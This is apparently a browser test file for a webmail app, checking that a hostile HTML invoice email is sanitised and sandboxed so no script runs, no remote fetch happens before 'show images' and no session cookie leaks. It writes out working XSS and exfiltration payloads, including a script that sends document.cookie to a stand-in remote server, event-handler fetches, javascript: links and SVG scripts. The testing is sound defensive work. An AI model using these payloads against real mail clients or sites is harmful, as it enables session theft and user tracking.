/**
 * Hostile HTML mail in the web app (issue 12), in real Chromium: a message
 * with scripts, event handlers, javascript: and data: links, CSS that fetches
 * remote URLs, a meta refresh, a form, SVG payloads, frames, objects and a
 * tracking pixel. A "remote" HTTPS server on loopback counts every request it
 * gets: nothing reaches it before "show images", no script runs anywhere,
 * and the app's session never reaches the message or the remote server.
 */
import { createServer, type Server } from 'node:https';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import MailComposer from 'nodemailer/lib/mail-composer';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, TwinboxSystem, freePort, launchChromium, phoneContext } from '@twinbox/testkit';

interface Hit {
  path: string;
  cookie: string | undefined;
}

function hostileHtml(remote: string): string {
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=${remote}/refresh">
<base href="${remote}/base/">
<link rel="stylesheet" href="${remote}/link.css">
<style>@import url("${remote}/import.css"); body { background: url(${remote}/style-bg.png); } p.x { background-image: url('${remote}/class-bg.png') }</style>
<script>fetch("${remote}/script?c=" + document.cookie); parent.document.title = "pwned";</script>
</head><body onload="fetch('${remote}/onload')">
<p class="x">Dear customer, <b>your invoice</b> is attached.</p>
<img id="logo" src="cid:logo@evil.test" alt="logo">
<img src="${remote}/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="fetch('${remote}/onerror'); alert('xss')">
<div style="background-image: url(${remote}/inline-bg.png)">styled</div>
<a id="js-link" href="javascript:fetch('${remote}/js-link');alert(1)">click me</a>
<a id="data-link" href="data:text/html,<script>alert(1)</script>">data link</a>
<a id="good-link" href="https://example.test/path">a real link</a>
<form action="${remote}/form" method="post"><input name="q" value="secret"><button id="submit">Send</button></form>
<svg width="10" height="10" onload="fetch('${remote}/svg-onload')"><script>fetch('${remote}/svg-script')</script><image href="${remote}/svg-image.png"/></svg>
<iframe src="${remote}/iframe"></iframe>
<object data="${remote}/object"></object><embed src="${remote}/embed">
<video poster="${remote}/poster.png"></video>
<math><mtext><img src="${remote}/math-img.png"></mtext></math>
</body></html>`;
}

describe('hostile HTML mail in the web app', () => {
  let system: TwinboxSystem;
  let browser: Browser;
  let page: Page;
  let remote: Server;
  let remoteUrl: string;
  const hits: Hit[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    system = await TwinboxSystem.start({ window: 5 });
    const tls = { key: readFileSync(join(system.serverDir, 'key.pem')), cert: readFileSync(join(system.serverDir, 'cert.pem')) };
    remote = createServer(tls, (req, res) => {
      hits.push({ path: req.url ?? '', cookie: req.headers.cookie });
      res.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
    });
    const port = await freePort();
    await new Promise<void>((resolve) => remote.listen(port, '127.0.0.1', resolve));
    remoteUrl = `https://127.0.0.1:${port}`;
    const raw = await new MailComposer({
      from: 'Billing <billing@evil.test>',
      to: 'user1@example.test',
      subject: 'Your invoice',
      text: 'Dear customer, your invoice is attached.',
      html: hostileHtml(remoteUrl),
      headers: { 'X-Scenario-Label': 'EVIL' },
      // An inline image (cid:) is part of the mail, not remote: it shows at once.
      attachments: [{ filename: 'logo.png', cid: 'logo@evil.test', contentType: 'image/png', content: readFileSync(join(ROOT, 'packages/sync-server/dist/web/icons/icon-192.png')) }],
    })
      .compile()
      .build();
    await system.desktop.appendRaw(raw, new Date());
    await system.sync();
    browser = await launchChromium([join(system.serverDir, 'cert.pem')]);
    const context = await phoneContext(browser);
    page = await context.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const device = await system.addPhoneDevice();
    await page.goto(device.signInUrl);
    await page.locator('.row-link', { hasText: 'Your invoice' }).click();
    await page.locator('iframe.body-frame').waitFor();
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => remote?.close(resolve));
    await system?.stop();
  });

  const body = () => page.frameLocator('iframe.body-frame');

  it('shows the text, runs nothing and fetches nothing before "show images"', async () => {
    await body().locator('p.x').waitFor();
    expect(await body().locator('p.x').innerText()).toBe('Dear customer, your invoice is attached.');
    await page.waitForTimeout(1000);
    expect(hits).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.title()).toBe('Twinbox');
    // The inline image is shown (as a data: URL), before and without "show images".
    await expect.poll(() => body().locator('#logo').evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(192);
    expect(await body().locator('#logo').getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    // What the sanitizer left: no script, handler, form, frame, object, SVG or meta; links only http(s), opening a new tab.
    const frame = page.frames().find((f) => f.url().includes('/view'))!;
    const left = await frame.evaluate(() => ({
      scripts: document.querySelectorAll('script, iframe, object, embed, form, svg, math, meta[http-equiv], base, link').length,
      handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name)),
      hrefs: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href')),
      targets: [...document.querySelectorAll('a[href]')].map((a) => `${a.getAttribute('target')} ${a.getAttribute('rel')}`),
      origin: window.origin,
    }));
    expect(left).toEqual({ scripts: 0, handlers: [], hrefs: [null, null, 'https://example.test/path'], targets: ['_blank noopener noreferrer'], origin: 'null' });
  });

  it('keeps the session out of reach of the message', async () => {
    const frame = page.frames().find((f) => f.url().includes('/view'))!;
    // The frame is sandboxed with an opaque origin: it has no cookies, no storage and no access to the app.
    expect(await frame.evaluate(() => {
      try {
        return document.cookie;
      } catch (err) {
        return (err as Error).name;
      }
    })).toBe('SecurityError');
    expect(await frame.evaluate(() => {
      try {
        return String(parent.document.title);
      } catch (err) {
        return (err as Error).name;
      }
    })).toBe('SecurityError');
    // The app's own page cannot read its session either (HttpOnly).
    expect(await page.evaluate(() => document.cookie)).toBe('');
    // Clicking the javascript: and data: links (left without href) does nothing.
    await body().locator('#js-link').click();
    await body().locator('#data-link').click();
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(hits).toEqual([]);
    const view = await system.api('GET', `/api/v1/messages/${await system.phoneId('EVIL')}/view`, (await system.addPhoneDevice()).token);
    expect(view.headers['content-security-policy']).toContain("default-src 'none'");
    expect(view.headers['content-security-policy']).toContain('sandbox allow-popups');
  });

  it('fetches remote images only after "show images", still without the session', async () => {
    await page.getByRole('button', { name: 'Show images' }).click();
    await expect.poll(() => hits.map((h) => h.path), { timeout: 10_000 }).toContain('/pixel.gif');
    await page.waitForTimeout(500);
    // Images and CSS backgrounds, nothing that runs or navigates.
    const paths = new Set(hits.map((h) => h.path));
    for (const never of ['/refresh', '/link.css', '/import.css', '/script', '/onload', '/onerror', '/js-link', '/form', '/svg-onload', '/svg-script', '/svg-image.png', '/iframe', '/object', '/embed']) {
      expect(paths.has(never), never).toBe(false);
    }
    expect(hits.every((h) => h.cookie === undefined)).toBe(true);
    expect(dialogs).toEqual([]);
  });
});
